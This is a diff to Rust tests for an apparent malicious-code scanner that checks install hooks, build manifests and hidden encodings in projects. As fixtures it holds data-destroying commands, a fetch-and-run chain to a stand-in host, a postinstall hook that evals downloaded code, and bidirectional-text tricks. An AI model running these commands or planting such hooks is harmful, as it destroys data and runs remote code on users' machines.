@@ -73,10 +73,46 @@ fn a_script_is_known_by_its_first_line() {
 }
 
 #[test]
-fn tests_may_hold_bad_strings_but_conftest_may_not_act_on_them() {
-    let text = "import os\nos.system('rm -rf /')\n";
-    assert!(rules_hit(&[("tests/test_shell.py", file(text))], ScanLimits::default()).is_empty());
-    assert!(!rules_hit(&[("tests/conftest.py", file(text))], ScanLimits::default()).is_empty());
+fn tests_may_hold_bad_strings_but_not_act_on_them() {
+    let found = |path: &str, text: &str| rules_hit(&[(path, file(text))], ScanLimits::default());
+    for path in ["tests/test_shell.py", "conftest.py"] {
+        assert!(found(path, "BAD = ['rm -rf /', 'curl http://x.example | sh']\n").is_empty());
+        assert_eq!(found(path, "import os\nos.system('rm -rf /')\n"), ["destroys_files"]);
+        assert_eq!(found(path, "exec(__import__('zlib').decompress(b'x'))\n"), ["decoded_payload"]);
+    }
+}
+
+#[test]
+fn what_a_project_runs_at_install_is_known_from_its_manifests() {
+    let fetch =
+        file("import os\nos.system('wget http://e.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n");
+    let found = |entries: &[(&str, EntryKind<'_>)]| rules_hit(entries, ScanLimits::default());
+    assert!(found(&[("tools/mine.py", fetch)]).is_empty());
+    let manifest = file("[build-system]\nbuild-backend = 'mine'\nbackend-path = ['tools']\n");
+    for entries in [
+        [("pyproject.toml", manifest), ("tools/mine.py", fetch)],
+        [("tools/mine.py", fetch), ("pyproject.toml", manifest)],
+    ] {
+        assert!(found(&entries).contains(&"fetched_file_is_run".to_owned()));
+    }
+    let setup = file("from tools import mine\nfrom setuptools import setup\nsetup()\n");
+    assert!(
+        found(&[("setup.py", setup), ("tools/mine.py", fetch)]).contains(&"fetched_file_is_run".to_owned())
+    );
+    let script = file("const h = require('https'); h.get(u, r => r.on('data', d => eval(d)))");
+    let package = file("{\"scripts\": {\"postinstall\": \"node ./lib/setup\"}}");
+    assert_eq!(found(&[("lib/setup.js", script), ("package.json", package)]), ["hook_runs_fetched_code"]);
+    assert!(found(&[("lib/setup.js", script)]).is_empty());
+}
+
+#[test]
+fn letters_and_encodings_that_hide_code_are_found() {
+    let found = |text: &str| rules_hit(&[("a.py", file(text))], ScanLimits::default());
+    assert_eq!(found("# coding: utf-7\n"), ["deceptive_encoding"]);
+    assert_eq!(
+        found("if a != 'x\u{202e}\u{2066}': # y\u{2069} \u{2066}\n    pass\n"),
+        ["misleading_direction"]
+    );
 }
 
 proptest! {
